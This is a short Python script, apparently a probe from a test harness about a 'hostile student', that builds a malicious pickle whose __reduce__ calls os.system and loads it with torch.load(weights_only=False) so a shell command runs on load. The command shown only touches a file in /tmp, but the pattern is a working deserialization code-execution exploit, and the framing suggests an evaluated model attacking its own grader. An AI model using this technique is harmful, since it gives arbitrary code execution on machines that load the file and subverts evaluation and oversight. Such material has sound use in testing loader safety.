# tries: a pickle that acts when it is read
# must earn: everything
# with: an honest regression.py
import io
import os
import pickle

import torch


class Acts:
    def __reduce__(self):
        return os.system, ("touch /tmp/of-a-hostile-student",)


torch.load(io.BytesIO(pickle.dumps(Acts())), weights_only=False)
